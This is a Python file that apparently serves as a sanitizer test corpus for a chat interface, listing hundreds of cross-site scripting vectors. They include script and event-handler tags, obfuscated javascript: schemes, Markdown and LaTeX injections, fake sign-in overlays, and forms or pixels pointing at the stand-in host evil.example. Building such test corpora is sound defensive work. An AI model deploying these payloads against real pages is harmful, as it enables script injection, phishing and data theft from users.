"""What a model could write to run, load or imitate something."""

import re

TAGS = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script\n>alert(1)</script\n>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)">
<img/src=x/onerror=alert(1)>
<image src=x onerror=alert(1)>
<img src=`x`onerror=alert(1)>
<img srcset="//evil.example/x 1x">
<IMG SRC=j&#97vascript:alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,x#x"/></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math href="javascript:alert(1)">x</math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<body onload=alert(1)>
<html onclick=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<frameset><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)"></object>
<embed src="data:text/html,<script>alert(1)</script>">
<applet code=x></applet>
<base href="//evil.example/">
<link rel=stylesheet href="//evil.example/x.css">
<link rel=prefetch href="//evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta name=referrer content=unsafe-url>
<style>@import "//evil.example/x.css";</style>
<style>*{background:url(//evil.example)}</style>
<div style="position:fixed;inset:0;background:#fff">Sign in again</div>
<div style="background:url(//evil.example/x)">x</div>
<p style="width:expression(alert(1))">x</p>
<span class="tail"></span>
<span class="tail" id="t-1" data-held="0"></span>
<div class="block" id="m-1-b0">x</div>
<article id="m-1" class="message" data-author="user" data-state="complete">x</article>
<button type="submit" class="button" data-copy>Send</button>
<form action="//evil.example/" method=post><input name=text><button>Send</button></form>
<form id=csrf><input name=csrfmiddlewaretoken value=x></form>
<input type=image src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<textarea id=text name=text>x</textarea>
<select onfocus=alert(1) autofocus></select>
<keygen onfocus=alert(1) autofocus>
<isindex action="javascript:alert(1)" type=image>
<dialog open>Your session has ended</dialog>
<details open ontoggle=alert(1)>x</details>
<video src=x onerror=alert(1)></video>
<video poster="//evil.example/x"></video>
<video><source onerror="alert(1)"></video>
<audio src=x onerror=alert(1) autoplay></audio>
<track src="//evil.example/x">
<marquee onstart=alert(1)>x</marquee>
<bgsound src="javascript:alert(1)">
<table background="//evil.example/x"><td background="//evil.example/x">x</td></table>
<a href="javascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="/accounts/logout/" id=logout name=logout target=_self>x</a>
<a id=messages></a><a id=messages name=pk href="x:y">
<a ping="//evil.example/" href="https://a.example">x</a>
<area href="javascript:alert(1)">
<map name=x><area shape=default href="javascript:alert(1)"></map>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><style>:host{all:initial}</style></template>
<slot name=x></slot>
<custom-element onclick=alert(1)>x</custom-element>
<x is="x-y" onmouseover=alert(1)>x</x>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img src=x onerror=alert(1)></noembed>
<noframes><img src=x onerror=alert(1)></noframes>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<title><img src=x onerror=alert(1)></title>
<textarea></textarea><img src=x onerror=alert(1)>
<comment><img src="</comment><img src=x onerror=alert(1))//">
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[><img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><?php echo 1 ?>
<!DOCTYPE html><!ENTITY x "y">
<br onclick=alert(1)>
<br/onmouseover=alert(1)>
<br style=position:fixed>
<hr id=status class=banner>
<p id=x name=y class=message data-pk=1 contenteditable tabindex=1 accesskey=s hidden popover>x</p>
<p draggable=true ondragstart=alert(1)>x</p>
<p dir=rtl lang=x itemscope nonce=x part=x slot=x>x</p>
<h1 role=alert aria-live=assertive>x</h1>
<sup class="footnote" onclick=alert(1)>1</sup>
<pre class="code" data-language="x"><code tabindex=0 onclick=alert(1)>x</code></pre>
<i class=k onmouseover=alert(1)>x</i>
<code class="math" onclick=alert(1)>x</code>
<ol start="1" onclick=alert(1)><li value=x onclick=alert(1)>x</li></ol>
{{ csrf_token }} {% csrf_token %} ${alert(1)} <%= alert(1) %> #{alert(1)}
</div></div></article></main><script>alert(1)</script>
</p></li></ul></blockquote></td></tr></table><img src=x onerror=alert(1)>
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
</code></pre><img src=x onerror=alert(1)>
</title></textarea></style></script><img src=x onerror=alert(1)>
\ufdd0<\ufdd0img src=x onerror=alert(1)\ufdd0>
<\0script>alert(1)</\0script>
<\ufeffimg src=x onerror=alert(1)>
＜script＞alert(1)＜/script＞
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
\\<img src=x onerror=alert(1)\\>
<http://<img src=x onerror=alert(1)>>
<https://a.example/"onmouseover=alert(1)>
<a@b.c"onmouseover=alert(1)>
""".strip().split("\n")

SCHEMES = [
    *(
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        "\x01javascript:",
        " javascript:",
        "javascript&colon;",
    ),
    *(
        "&#106;avascript:",
        "&#x6A;avascript:",
        "&#0000106avascript:",
        "javascript&#58;",
        "javas&#99;ript:",
        "jav&Tab;ascript:",
    ),
    *("%6Aavascript:", "javascript%3A", "java\\script:", "javascript\\:", "javascript:\\/\\/", "javascript://%0a"),
    *(
        "vbscript:",
        "livescript:",
        "mocha:",
        "data:text/html,",
        "data:text/html;base64,",
        "DATA:image/svg+xml,",
        "blob:x/",
    ),
    *(
        "file:///etc/",
        "view-source:",
        "about:",
        "filesystem:x",
        "jar:http://a!/",
        "ftp://a/",
        "ws://a/",
        "tel:",
        "sms:",
    ),
    *(
        "intent://a/",
        "//evil.example/",
        "/\\evil.example/",
        "\\\\evil.example\\",
        "/accounts/logout/",
        "?x=",
        "#m-",
        "x",
    ),
    *(
        "http:/\\x",
        "feed:javascript:",
        "wyciwyg://",
        "res://",
        "mk:@MSITStore:",
        "steam://",
        "ms-settings:",
        "x-apple:",
    ),
]
PLACES = [
    "[x]({}alert(1))",
    "[x](<{}alert(1)>)",
    "![x]({}alert(1))",
    "[x]\n\n[x]: {}alert(1)",
    "<{}alert(1)>",
    '[![x]({}alert(1) "a")](https://a.example "\\"onclick=alert(1) x=\\"")',
]
MARKDOWN = """
[x](https://a.example "onmouseover=alert(1)")
[x](https://a.example '" onmouseover=alert(1) x="')
[x](https://a.example/"onmouseover=alert(1))
[x](https://a.example/%22onmouseover=alert(1))
[x](https://a.example/'onmouseover=alert(1))
[x](https://a.example/`onmouseover=alert(1)`)
[x](https://a.example/\u2028onmouseover=alert(1))
![" onerror=alert(1) x="](x)
![x](x "\\" onerror=alert(1) x=\\"")
![<img src=x onerror=alert(1)>](https://a.example)
![![x](y)](z)
[![x](https://a.example/x.png)](javascript:alert(1))
![x](https://evil.example/pixel.png)
![][x]

[x]: https://evil.example/pixel.png
[<img src=x onerror=alert(1)>](https://a.example)
https://a.example/"onmouseover=alert(1)
https://a.example/<img/src=x/onerror=alert(1)>
www.a.example/"onmouseover="alert(1)
a@b.example"onmouseover="alert(1)
```"><img src=x onerror=alert(1)>
```
```x" onmouseover="alert(1)
y
```
~~~ </code></pre><img src=x onerror=alert(1)>
~~~
```html
</code></pre><img src=x onerror=alert(1)>
```
```js
"</i></code></pre><img src=x onerror=alert(1)>"
```
```math
\\text{</math><img src=x onerror=alert(1)>}
```
`</code><img src=x onerror=alert(1)>`
$\\text{<img src=x onerror=alert(1)>}$
$\\text{</mtext></math><img src=x onerror=alert(1)>}$
$\\href{javascript:alert(1)}{x}$
$\\href{https://evil.example}{x}$
$\\url{javascript:alert(1)}$
$\\style{position:fixed;inset:0}{x}$
$\\class{message}{x} \\cssId{messages}{x} \\id{x}{y}$
$\\includegraphics{https://evil.example/x.png}$
$\\color{red;background:url(//evil.example)}{x}$
$\\color{"onmouseover=alert(1) x="}{x}$
$\\textcolor{url(//evil.example)}{x}$
$\\hspace{-9999em} x \\kern-100em y \\mkern-100mu z \\!\\!\\!$
$\\rule{9999em}{9999em} \\raise 100em x \\lower 100em x$
$\\unicode{60}img \\char60 x \\&lt;script\\&gt;$
$\\newcommand{\\x}{\\x\\x}\\x$
$\\def\\a{bb}\\def\\b{\\a\\a}\\b$
$\\begin{array}{"onmouseover=alert(1)}x\\end{array}$
$\\begin{matrix}[onmouseover=alert(1)]x\\end{matrix}$
$\\htmlData{a=b}{x} \\htmlStyle{position:fixed}{x} \\htmlId{x}{y}$
$$\\bbox[url(//evil.example)]{x}$$
\\(\\text{<script>alert(1)</script>}\\)
\\[\\mathchoice{<}{svg}{onload}{>}\\]
[^<img src=x onerror=alert(1)>]

[^<img src=x onerror=alert(1)>]: x
x[^1]

[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))
x[^"onmouseover=alert(1)]

[^"onmouseover=alert(1)]: y
| <script>alert(1)</script> | [x](javascript:alert(1)) |
|:--|--:|
| <td onclick=alert(1)> | ![x](//evil.example) |
- <li onclick=alert(1)>
  - <script>alert(1)</script>
> <blockquote cite=javascript:alert(1)>
# <h1 onclick=alert(1)> {#messages .message onclick=alert(1)}
- [x] <input type=checkbox onclick=alert(1)>
"""
MARKDOWN_CASES = [MARKDOWN, *re.split(r"\n(?=\S)", MARKDOWN.strip())]

VECTORS = [
    *TAGS,
    *(f"para\n{tag}\n\n- {tag}\n\n> {tag}\n\n*{tag}*" for tag in TAGS),
    *(place.format(scheme) for scheme in SCHEMES for place in PLACES),
    *MARKDOWN_CASES,
]
